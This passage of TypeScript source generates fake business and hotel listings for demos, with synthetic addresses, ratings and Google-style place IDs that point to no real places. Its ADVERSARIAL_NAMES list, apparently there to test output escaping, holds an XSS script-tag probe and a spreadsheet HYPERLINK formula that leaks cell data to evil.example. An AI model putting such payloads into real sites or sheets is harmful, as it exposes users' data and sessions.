      local = `${city}, ${joinSp(region, postal)}`;
      break;
    case "au":
      local = joinSp(city, region, postal);
      break;
    case "gb":
      local = joinSp(city, postal);
      break;
    case "eu":
      local = joinSp(postal, city);
      break;
    case "it":
      local = joinSp(postal, city, region);
      break;
    case "br":
      local = `${city} - ${region ?? ""}${postal ? `, ${postal}` : ""}`;
      break;
    case "mx":
      local = `${joinSp(postal, city)}${region ? `, ${region}` : ""}`;
      break;
    case "cp":
      local = postal ? `${city}, ${postal}` : city;
      break;
    case "none":
      local = city;
      break;
  }
  local = local.replace(/,\s*$/, "").trim();
  const sep = style === "br" ? " - " : ", ";
  return `${street ? street + sep : ""}${local}, ${country}`;
}

const SLUG_FOLD: Record<string, string> = { ß: "ss", ı: "i", ø: "o", æ: "ae", ł: "l", đ: "d", ð: "d", þ: "th", œ: "oe", "&": " and " };

const ASCII_ONLY = /^[\x20-\x7e]*$/;

function slugify(s: string): string {
  return (ASCII_ONLY.test(s) ? s : s.normalize("NFD"))
    .replace(/[\u0300-\u036f]/g, "")
    .toLowerCase()
    .replace(/[ßıøæłđðþœ&]/g, (c) => SLUG_FOLD[c] ?? "")
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-+|-+$/g, "")
    .slice(0, 48)
    .replace(/-+$/, "");
}

function placeIdFor(index: number): string {
  const h = fmix32((index ^ 0x5bd1e995) >>> 0); // bijective: unique for 0 <= index < 2^32
  let s = "ChIJ";
  const r1 = u32();
  const r2 = u32();
  const r3 = u32();
  // 3 random chars, 6 chars carrying the 32 unique bits (+4 random), 14 random chars.
  s += B64.charAt(r1 & 63) + B64.charAt((r1 >>> 6) & 63) + B64.charAt((r1 >>> 12) & 63);
  s += B64.charAt(h >>> 26) + B64.charAt((h >>> 20) & 63) + B64.charAt((h >>> 14) & 63) + B64.charAt((h >>> 8) & 63) +
    B64.charAt((h >>> 2) & 63) + B64.charAt(((h & 3) << 4) | ((r1 >>> 18) & 15));
  for (const r of [r2, r3]) {
    for (let k = 0; k < 5; k++) s += B64.charAt((r >>> (k * 6)) & 63);
  }
  const r4 = u32();
  for (let k = 0; k < 4; k++) s += B64.charAt((r4 >>> (k * 6)) & 63);
  return s;
}

const ADVERSARIAL_NAMES = [
  "Hotel </script><script>alert(1)</script> Plaza",
  'The "quotes" & <b>tags</b> Bistro',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for prices") Hotel',
];

const PHI = 0.6180339887498949;
const END_TIME = Date.UTC(2026, 10, 1) / 1000; // fixed, so output never depends on the clock
const SPAN = 2 * 365 * 86400;

function round7(x: number): number {
  return Math.round(x * 1e7) / 1e7;
}

function demoReviews(isHotel: boolean): number {
  const mu = isHotel ? 5.3 : 4.1;
  const sigma = isHotel ? 1.25 : 1.45;
  return Math.max(1, Math.min(20000, Math.round(Math.exp(mu + sigma * gauss()))));
}

function ratingFor(reviews: number): number {
  let r: number;
  if (rnd() < 0.06) r = 1 + rnd() * 3.4; // the unhappy tail
  else r = 4.25 + 0.28 * gauss();
  if (reviews < 10) r += 0.5 * gauss();
  else if (reviews > 2000) r = 4.2 + (r - 4.2) * 0.6;
  return Math.round(Math.min(5, Math.max(1, r)) * 10) / 10;
}

function categoryFor(def: TypeDef, isHotel: boolean, lang: string, cc: string, adj: string): string {
  const r = rnd();
  if (r < (isHotel ? 0.75 : 0.6)) return def.q;
  const loc = def.loc?.[cc] ?? def.loc?.[lang];
  if (loc && r < (isHotel ? 0.92 : 0.8)) return pick(loc);
  const label = pick(def.labels);
  return label.startsWith("{N}") ? adj + label.slice(3) : label;
}

function locatedIn(def: TypeDef, isHotel: boolean, lang: string, city: string): string | null {
  if (isHotel) {
    if (rnd() >= 0.02) return null;
    return pick([`${city} International Airport`, `${city} Central Station`, `${city} Convention Center`]);
  }
  const host = def.a === "food" || def.a === "shop" || def.a === "beauty" || def.a === "night" || def.a === "service";
  if (!host || rnd() >= 0.1) return null;
  const r = rnd();
  if (r < 0.4) return businessName(PLAIN_HOTEL, lang, city);
  if (r < 0.7) return businessName(MALL, lang, city);
  return pick([`${city} International Airport`, `${city} Central Station`, `${city} Old Town Market`]);
}

// ---------------------------------------------------------------------------------------------
// Public API.
// ---------------------------------------------------------------------------------------------

export function demoBusiness(index: number): DemoBusiness {
  const i = Math.floor(index);
  if (!Number.isFinite(i) || i < 0) throw new RangeError(`demoBusiness: bad index ${index}`);
  prngState = fmix32((i ^ 0x9e3779b9) >>> 0) ^ fmix32(Math.floor(i / 4294967296) + 0x632be5ab);
  const placeId = placeIdFor(i);

  // Weyl sequence → every city appears in close to its share in any window of indices.
  const city = CITY_TABLE.at((i * PHI + 0.1372) % 1);
  const country = city.country;
  const cdef = country.def;

  const isHotel = rnd() < 0.55;
  let def = isHotel ? HOTEL_TABLE.pick() : OTHER_TABLE.pick();
  if (isHotel && (def.t === "Motel" || def.t === "Extended Stay Hotel") && !country.usesMotels && rnd() < 0.85) {
    def = PLAIN_HOTEL;
  }
  const lang = cdef.lang2 && city.lang === cdef.lang && rnd() < 0.35 ? cdef.lang2 : city.lang;

  nameBrand = null;
  const adversarial = i >= 7 && (i - 7) % 50000 === 0;
  const name = adversarial ? (ADVERSARIAL_NAMES[((i - 7) / 50000) % 3] as string) : businessName(def, lang, city.name);
  const brand = nameBrand as string | null;

  const category = categoryFor(def, isHotel, lang, cdef.cc, cdef.adj);
  const street = rnd() < 0.97 ? streetAddress(country.streets) : null;
  const postal = postalCode(country, city);
  const address = fullAddress(cdef.ad, street, city.name, postal, city.region, cdef.name);

  const latitude = round7(city.lat + gauss() * city.spread);
  const longitude = round7(city.lon + (gauss() * city.spread) / Math.max(0.2, Math.cos((city.lat * Math.PI) / 180)));

  const hasRating = rnd() >= 0.03;
  const reviews = hasRating ? demoReviews(isHotel) : 0;
  const rating = hasRating ? ratingFor(reviews) : null;

  const phone = rnd() < (isHotel ? 0.8 : 0.58) ? phoneNumber(country, city) : null;
  let url: string | null = null;
  if (rnd() < (isHotel ? 0.68 : 0.5)) {
    if (brand && rnd() < 0.8) url = `https://www.${slugify(brand)}.example/${slugify(city.name)}`;
    else url = `https://www.${slugify(name) || "business-" + i}.example${rnd() < 0.15 ? "/" + (lang === "en" ? "home" : lang) : ""}`;
  }
  const photo = rnd() < 0.9 ? `https://images.example/p/${placeId.slice(4)}/w800-h600.jpg` : null;
  const logo = rnd() < 0.35 ? `https://images.example/logo/${placeId.slice(7, 19)}.png` : null;
  const hours = rnd() < 0.9 ? hoursJson(workingHours(def.h, cdef.cc)) : null;
  const about = rnd() < 0.9 ? aboutJson(def.a) : null;
  const inside = locatedIn(def, isHotel, lang, city.name);
  const verified = rnd() >= 0.15;
  const u = rnd();
  const createdAt = END_TIME - Math.floor(Math.pow(u, 1.4) * SPAN) - ((u32() % 86400) | 0);
  // Drawn last, so every field before it is what it was before prices existed.
  const priceRange = rnd() < 0.7 ? "$".repeat(1 + Math.min(3, Math.floor(rnd() * (isHotel ? 4 : 3) + (rating !== null && rating >= 4.5 ? 0.5 : 0)))) : null;

  return {
    name,
    category,
    type: def.t,
    fullAddress: address,
    street,
    city: city.name,
    postalCode: postal,
    country: cdef.name,
    countryCode: cdef.cc,
    phone,
    latitude,
    longitude,
    rating,
    reviews,
    reviewsLink: `https://www.google.com/maps/place/?q=place_id:${placeId}`,
    photo,
    logo,
    locatedIn: inside,
    workingHours: hours,
    verified,
    about,
    placeId,
    timeZone: city.tz,
    url,
    priceRange,
    createdAt,
  };
}

/** The `type` values used for hotels (everything else is another kind of business). */
export const DEMO_HOTEL_TYPES: readonly string[] = HOTEL_TYPES.map((t) => t.t);

export function* demoBusinesses(start: number, count: number): Generator<DemoBusiness> {
  for (let k = 0; k < count; k++) yield demoBusiness(start + k);
}
